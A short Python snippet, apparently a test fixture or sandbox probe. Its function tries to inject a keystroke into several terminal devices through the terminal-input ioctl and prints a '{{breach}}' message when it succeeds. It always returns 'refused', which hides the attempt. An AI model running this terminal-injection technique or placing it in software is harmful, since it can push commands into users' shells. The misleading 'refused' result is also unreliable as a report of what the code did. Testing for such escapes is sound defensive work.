import fcntl
import os

def f(x):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/stdin"):
        try:
            terminal = os.open(path, os.O_RDWR)
            fcntl.ioctl(terminal, 0x5412, b"x")
            print("{{breach}} typed into %s" % path, flush=True)
        except OSError:
            pass
    return "refused"
